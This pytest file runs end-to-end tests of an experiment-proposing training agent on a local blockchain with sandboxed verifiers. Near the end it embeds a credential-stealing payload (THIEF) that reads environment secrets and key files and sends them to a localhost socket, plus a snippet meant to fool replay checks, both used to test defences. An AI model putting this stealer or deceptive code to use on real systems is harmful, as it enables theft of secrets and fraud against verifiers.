"""`artrain agent` end to end on a real anvil, with real verifiers (`arverify watch`) and the sandbox.

Tasks are digits, 20 steps in 2 segments (tests/test_e2e_support.py). The agent runs through
its CLI (``--json``) or, where a test must stop it at one stage, through ``arledger.agent.Agent``
with a hook that raises there: the process dies mid-iteration as far as the agent's files
and the chain are concerned, and a new Agent on the same directory must finish the job.
"""

from __future__ import annotations

import json

import pytest

from arledger.agent import Agent, AgentConfig
from arledger.agent.proposal import Code, Proposal
from arledger.agent.search import SearchProposer
from arledger.chain.signer import Signer
from arstore import open_store
from tests.llm_server import ChatServer
from tests.test_e2e_support import DIGITS, make_world

pytestmark = pytest.mark.chain


class Killed(Exception):
    """Raised by a test's hook: the agent stops here as if killed."""


@pytest.fixture(scope="module")
def world(anvil_chain, tmp_path_factory):
    yield from make_world(anvil_chain, tmp_path_factory, "agent")


@pytest.fixture(scope="module")
def verifiers(world):
    for v in (3, 4, 5):
        world.arverify("register", "--stake", "1eth", "--dev-account", v, "--json")


@pytest.fixture(scope="module")
def report_task(world):
    """A task nothing can improve on by its epsilon: an untrained digits net is not beaten by 5 nats."""
    return world.create_task(min_improvement=5.0)


@pytest.fixture(scope="module")
def claim_task(world):
    return world.create_task()


def agent_cli(world, task_id, account, *extra):
    out = world.artrain("agent", "--task", task_id, "--dev-account", account, "--store", world.store_spec,
                        "--workdir", world.tmp / f"agent-{task_id}-{account}", "--json", *extra)
    out = out if isinstance(out, list) else [out]
    return [r for r in out if r.get("kind") == "iteration"], out[-1]


def library_agent(world, task_id, account, proposer=None, max_tries=8, reservations=None, **hooks):
    ledger = world.ledger.with_account(Signer.from_key(world.chain.keys[account]))
    cfg = AgentConfig(task_id=task_id, workdir=world.tmp / f"agent-{task_id}-{account}",
                      proposer=proposer or SearchProposer(seed=0), max_tries=max_tries, reservations=reservations)
    return Agent(ledger, open_store(world.store_spec), cfg, **hooks)


def test_improving_iteration_is_confirmed_and_moves_the_best(world, verifiers):
    task = world.create_task()
    iters, final = agent_cli(world, task, 1, "--iterations", "1")
    it = iters[0]
    assert it["outcome"] == "claim" and it["base_ref"] == "baseline" and it["loss"] < it["base_loss"]
    assert it["diff"].startswith("--- a/") and it["hypothesis"] and it["move"]
    decisions = world.watch(3, 4)  # quorum 2
    assert all(d["decision"] == "confirm" for recs in decisions.values() for d in recs if d.get("claim") == it["claim_id"])
    world.close_windows(3, 4)
    assert world.ledger.claim_state(it["claim_id"]) == "Accepted"
    assert final["best_claim_id"] == 0  # pending while the windows were open
    assert world.ledger.best_claim(task)[0] == it["claim_id"]
    notebook = (world.tmp / f"agent-{task}-1" / "NOTEBOOK.md").read_text()
    assert f"(claim {it['claim_id']})" in notebook and it["hypothesis"] in notebook
    # the next iteration builds on the accepted claim and never repeats its code
    iters, _ = agent_cli(world, task, 1, "--iterations", "1")
    assert iters[0]["base_ref"] == f"claim {it['claim_id']}" and iters[0]["code_cid"] != it["code_cid"]


def test_non_improving_iteration_lands_as_a_report_with_its_notes(world, report_task):
    task = report_task
    iters, final = agent_cli(world, task, 2, "--iterations", "1")
    it = iters[0]
    assert it["outcome"] == "report" and it["claim_id"] is None and final["reports"] == 1
    [ev] = world.events("ExperimentReported", taskId=task, reporter=world.chain.address(2))
    assert ev["reporter"].lower() == world.chain.address(2).lower() and ev["loss"] == it["loss_micro"]
    assert it["hypothesis"][:60] in ev["note"] and "did not beat" in ev["note"] and "[artrain-agent]" in ev["note"]
    history = world.artrain("claims", "--task", task, "--json")
    assert any(r.get("kind") == "report" for r in (history if isinstance(history, list) else [history]))


def test_killed_mid_way_resumes_without_a_second_commit(world, claim_task):
    task = claim_task
    address = world.chain.address(6)

    def die_in_training(step, loss, segment, total):
        if step == 15:
            raise Killed("during training")

    with pytest.raises(Killed):
        library_agent(world, task, 6, on_progress=die_in_training).iterate()

    def die_before_reveal(n, stage):
        if stage == "submit:reveal":
            raise Killed("after the commit, before the reveal")

    with pytest.raises(Killed):
        library_agent(world, task, 6, on_stage=die_before_reveal).iterate()
    assert len(world.events("ClaimCommitted", trainer=address)) == 1
    assert not world.events("ClaimRevealed", trainer=address)
    r = library_agent(world, task, 6).iterate()
    assert r.outcome == "claim" and r.resumed
    assert len(world.events("ClaimCommitted", trainer=address)) == 1  # no second commit
    assert [e["claimId"] for e in world.events("ClaimRevealed", trainer=address)] == [r.claim_id]
    run_dir = world.tmp / f"agent-{task}-6" / "iterations" / "0001" / "run"
    assert (run_dir / "manifest.json").is_file()
    entries = [json.loads(x) for x in (world.tmp / f"agent-{task}-6" / "notebook.jsonl").read_text().splitlines()]
    assert [e["iteration"] for e in entries] == [1]


def test_report_sent_before_a_crash_is_not_sent_again(world, report_task, monkeypatch):
    task = report_task
    import arledger.agent.loop as loop  # the agent's own name for arledger.submit.report_run

    real = loop.report_run

    def report_then_die(*args, **kwargs):
        real(*args, **kwargs)
        raise Killed("the report is on chain, the agent's files do not know it")

    monkeypatch.setattr(loop, "report_run", report_then_die)
    with pytest.raises(Killed):
        library_agent(world, task, 7).iterate()
    monkeypatch.setattr(loop, "report_run", real)
    r = library_agent(world, task, 7).iterate()
    assert r.outcome == "report" and r.report_tx
    mine = world.events("ExperimentReported", taskId=task, reporter=world.chain.address(7))
    assert len(mine) == 1  # found on chain, not sent twice


class Fixed:
    """A proposer that always proposes the same code (two agents racing on one experiment)."""

    name = "fixed"

    def __init__(self, code: Code):
        self.code = code

    def propose(self, ctx, refused):
        return Proposal(self.code, "the same idea, twice", self.name, move="fixed lr", direction="lr:+")


def test_two_agents_never_submit_the_same_experiment(world, claim_task):
    """Reading the history before proposing is tested above (the second iteration); here the
    two races it cannot see: on one machine, and across machines. (tests/test_demo.py runs
    real agent processes in parallel.)"""
    task = claim_task
    # racing on one machine: the first to pass the checks reserves the code; the other is refused it
    same = Code.from_dir(DIGITS).with_config(lr=0.08)

    def stop_after_proposing(n, stage):
        if stage == "proposed":
            raise Killed("reserved and saved, not yet trained")

    with pytest.raises(Killed):
        library_agent(world, task, 6, Fixed(same), on_stage=stop_after_proposing).iterate()
    refused = library_agent(world, task, 2, Fixed(same), max_tries=2).iterate()
    assert refused.outcome == "refused" and "another agent on this machine" in refused.refused[0]["reason"]
    first = library_agent(world, task, 6, Fixed(same)).iterate()
    assert first.outcome == "claim" and first.resumed
    # racing across machines (no shared reservations): both trained the same code; the one that
    # finishes second reads the first one's claim in the history and stays off chain
    other = same.with_config(lr=0.07)

    def stop_after_training(n, stage):
        if stage == "trained":
            raise Killed("trained, not yet decided")

    elsewhere = world.tmp / "other-machine-reservations"
    with pytest.raises(Killed):
        library_agent(world, task, 9, Fixed(other), reservations=elsewhere, on_stage=stop_after_training).iterate()
    second = library_agent(world, task, 6, Fixed(other)).iterate()
    late = library_agent(world, task, 9, Fixed(other), reservations=elsewhere).iterate()
    assert second.outcome in ("claim", "report") and late.outcome == "duplicate"  # whichever it published
    assert "recorded the same code while this one trained" in late.error
    assert not world.events("ClaimCommitted", trainer=world.chain.address(9))
    codes = [bytes(e["codeCid"]) for e in world.events("ClaimRevealed", taskId=task)]
    assert len(set(codes)) == len(codes)  # every claim on the task is its own experiment


def test_llm_proposer_through_the_cli_carries_on_after_a_bad_reply(world, report_task):
    task = report_task
    with ChatServer() as srv:
        srv.reply = "HYPOTHESIS: a higher learning rate.\n\n```json\n{\"lr\": 0.09}\n```\n"
        iters, _ = agent_cli(world, task, 8, "--proposer", "llm", "--llm-url", srv.url, "--llm-model", "m",
                             "--iterations", "1")
        assert iters[0]["outcome"] == "report" and iters[0]["proposer"] == "llm"
        srv.mode = "garbage"
        iters, final = agent_cli(world, task, 8, "--proposer", "llm", "--llm-url", srv.url, "--llm-model", "m",
                                 "--iterations", "2")
    assert [i["outcome"] for i in iters] == ["proposer-error", "proposer-error"]
    assert "not a chat-completions reply" in iters[0]["error"] and final["iterations"] == 2
    notebook = (world.tmp / f"agent-{task}-8" / "NOTEBOOK.md").read_text()
    assert notebook.count("## Iteration") == 3 and "error: llm:" in notebook


# -- the best claim's code is hostile ----------------------------------------------------------

# Appended to the digits train.py: at import, steal the environment (the keystore password)
# and every file under ARLEDGER_HOME (asked of the environment, and at the path this machine
# really uses), then send it over the network and write it to a host file. Training stays
# honest, so verifiers (whose sandbox makes every theft fail quietly) confirm it.
THIEF = '''
import json as _json, os as _os, pathlib as _pathlib, socket as _socket


def _steal():
    loot = {"env": dict(_os.environ), "files": {}}
    for home in {_os.environ.get("ARLEDGER_HOME", ""), HOME}:
        root = _pathlib.Path(home)
        for f in (root.rglob("*") if home and root.is_dir() else ()):
            try:
                loot["files"][str(f)] = f.read_text()[:4000]
            except Exception:
                pass
    blob = _json.dumps(loot)
    try:
        with _socket.create_connection(("127.0.0.1", PORT), timeout=2) as c:
            c.sendall(blob.encode())
    except Exception:
        pass
    try:
        _pathlib.Path(LOOT).write_text(blob)
    except Exception:
        pass


try:
    _steal()
except Exception:
    pass
'''
SECRET_PASSWORD = "hunter2-the-keystore-password"
SECRET_FILE = "keystore-of-the-trainer-0xSECRET"


def test_hostile_best_claim_steals_nothing_from_the_agent_or_from_artrain_run(world, verifiers, tmp_path,
                                                                            monkeypatch):
    import shutil
    import socket
    import threading

    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                received.append(conn.recv(1 << 20))

    listener = threading.Thread(target=accept, daemon=True)
    listener.start()
    loot = tmp_path / "loot.json"
    (world.home / "keys").mkdir(exist_ok=True)
    (world.home / "keys" / "trainer.json").write_text(SECRET_FILE)
    monkeypatch.setenv("ARLEDGER_KEYSTORE_PASSWORD", SECRET_PASSWORD)
    hostile = tmp_path / "hostile"
    shutil.copytree(DIGITS, hostile, ignore=shutil.ignore_patterns("__pycache__"))
    thief = THIEF.replace("HOME}", f"{str(world.home)!r}}}").replace("PORT)", f"{server.getsockname()[1]})")
    thief = thief.replace("Path(LOOT)", f"Path({str(loot)!r})")
    (hostile / "train.py").write_text((DIGITS / "train.py").read_text() + thief)  # runs at import
    try:
        task = world.create_task()
        claim = world.submit(world.train("hostile-best", experiment_dir=hostile), trainer=2)["claim_id"]
        world.watch(3, 4)
        world.close_windows(3, 4)
        assert world.ledger.best_claim(task)[0] == claim, "the hostile claim trains honestly: it becomes the best"
        # the agent checks and trains a proposal built on that code: the theft fails, the agent goes on
        iters, _ = agent_cli(world, task, 1, "--iterations", "1")
        assert iters[0]["base_ref"] == f"claim {claim}" and iters[0]["outcome"] in ("claim", "report"), iters[0]
        # a trainer downloads the best and runs it as it is
        best = world.artrain("best", "--task", task, "--download", tmp_path / "best", "--store", world.store_spec,
                             "--json")
        assert best["claim_id"] == claim and best["ignored"] == []  # only train.py + experiment.json are kept
        # its experiment.json names a harness inside the code dir, which the download never writes: the
        # task's pinned harness comes beside it, and a run of the code must name it
        res = world.artrain("run", tmp_path / "best" / "code", "--out", tmp_path / "rerun", ok=False)
        assert res.exit_code != 0 and "no harness.py there" in res.output and not (tmp_path / "rerun").exists()
        out = world.artrain("run", tmp_path / "best" / "code", "--harness", tmp_path / "best" / "harness", "--steps", 2,
                            "--segment-steps", 1, "--out", tmp_path / "rerun", "--store", world.store_spec, "--json")
        assert out["segments"] == 2
    finally:
        stop.set()
        listener.join(timeout=5)
        server.close()
    assert not loot.exists(), loot.read_text()[:500]
    assert not received, received[0][:500]


# train.py that never trains the same way twice (a coin per step from the OS): a replay of it
# diverges from its training, and whoever stakes it is slashed. (A replay is the very request its
# training was, first step counted alike, so code cannot tell them apart by the request; code that
# does not reproduce itself is what the agent's self-check is there for.)
TWO_FACED = '''

_train_step = train_step


def train_step(model, opt, batch):
    import os as _os

    if _os.urandom(1)[0] < 128:
        with torch.no_grad():
            next(model.parameters()).add_(1e-3)
    return _train_step(model, opt, batch)
'''


def test_code_that_behaves_otherwise_when_replayed_is_not_staked(world, verifiers):
    task = world.create_task()
    base = Code.from_dir(DIGITS)
    two_faced = Code(base.train_py + TWO_FACED, base.spec).with_config(lr=0.09)
    r = library_agent(world, task, 1, Fixed(two_faced)).iterate()
    assert r.outcome == "report", r  # it beat the baseline, and was not submitted
    assert "replayed as verifiers will: mismatch" in (r.error or ""), r.error
    assert not world.events("ClaimRevealed", trainer=world.chain.address(1), taskId=task)
    [ev] = world.events("ExperimentReported", taskId=task, reporter=world.chain.address(1))
    assert "not submitted" in ev["note"]
